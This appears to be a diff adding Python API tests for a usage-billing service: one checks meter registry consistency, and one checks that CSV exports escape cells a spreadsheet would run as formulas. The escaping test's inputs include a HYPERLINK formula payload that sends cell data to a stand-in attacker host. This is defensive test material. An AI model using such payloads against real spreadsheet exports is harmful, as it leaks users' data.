@@ -14,6 +14,7 @@ from sqlalchemy.orm import Session, sessionmaker
 
 from api.db import utcnow
 from api.usage import ledger
+from api.usage.meters import METERS, PRICE_KEYS
 from tests.factories import make_account
 
 MAY = {"start": "2026-05-01T00:00:00Z", "end": "2026-06-01T00:00:00Z"}
@@ -235,3 +236,62 @@ def test_open_months_and_unknown_servers_answer_404(client: TestClient,
     assert r.status_code == 404 and r.json()["code"] == "server_not_found"
     assert client.post("/v1/usage/periods/2025-01/close",
                        headers=reader.headers).status_code == 403
+
+
+# --- the meter registry is the one list of meters ---
+
+def test_every_registered_meter_is_a_report_field_a_csv_column_and_a_rate_card_price(
+    client: TestClient, admin: dict[str, str], db: Session
+) -> None:
+    member = make_account(client, admin, "member")
+    lifecycle(db, member.project_id, datetime(2026, 5, 7, tzinfo=UTC))
+    params = {**MAY, "group_by": "server"}
+    [block] = client.get("/v1/usage", params=params, headers=member.headers).json()["projects"]
+    header = next(csv.reader(io.StringIO(client.get(
+        "/v1/usage", params=params, headers={**member.headers, "Accept": "text/csv"}).text)))
+    for meter in METERS:
+        assert meter.seconds_field in block and meter.hours_field in block
+        assert meter.seconds_field in block["servers"][0] and meter.seconds_field in header
+    body = {"valid_from": (utcnow() + timedelta(days=600)).isoformat(), "currency": "EUR",
+            **{key: "0.01" for key in PRICE_KEYS}}
+    for key in PRICE_KEYS:  # every priced meter needs its price
+        r = client.post("/v1/rates", headers=admin,
+                        json={k: v for k, v in body.items() if k != key})
+        assert r.status_code == 422 and r.json()["code"] == "invalid_input", r.text
+    r = client.post("/v1/rates", headers=admin, json=body)
+    assert r.status_code == 201, r.text
+    assert {key: r.json()[key] for key in PRICE_KEYS} == {key: "0.01" for key in PRICE_KEYS}
+    assert client.delete(f"/v1/rates/{r.json()['id']}", headers=admin).status_code == 204
+
+
+# --- output safety ---
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(
+    client: TestClient, admin: dict[str, str]
+) -> None:
+    # OWASP CSV injection: a text cell starting with = + - @ tab or CR gets a leading single
+    # quote, so a spreadsheet shows it as text; numbers (a negative amount too) stay numbers.
+    member = make_account(client, admin, "member")
+    reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"refund")', "+1+1", "@SUM(1)",
+               "\tcredit", "\rcredit", "-2-3", "plain credit"]
+    for reason in reasons:
+        r = client.post("/v1/usage/adjustments", headers=admin, json={
+            "project_id": member.project_id, "server_id": "-1-1", "amount": "-2.5",
+            "reason": reason})
+        assert r.status_code == 201, r.text
+        assert r.json()["reason"] == reason  # stored and shown in JSON as given
+    now = utcnow()
+    window = {"start": datetime(now.year, now.month, 1, tzinfo=UTC).isoformat(),
+              "end": (now + timedelta(days=1)).isoformat()}
+    r = client.get("/v1/usage", params=window,
+                   headers={**member.headers, "Accept": "text/csv"})
+    assert r.status_code == 200, r.text
+    rows = [row for row in csv.DictReader(io.StringIO(r.text, newline=""))
+            if row["line"] == "adjustment"]
+    assert sorted(row["reason"] for row in rows) == sorted(
+        ["'" + reason for reason in reasons[:-1]] + ["plain credit"])
+    assert {row["server_id"] for row in rows} == {"'-1-1"}
+    assert {row["cost"] for row in rows} == {"-2.5"}
+    [project] = [row for row in csv.DictReader(io.StringIO(r.text, newline=""))
+                 if row["line"] == "project"]
+    assert project["cost"] == "-17.5"
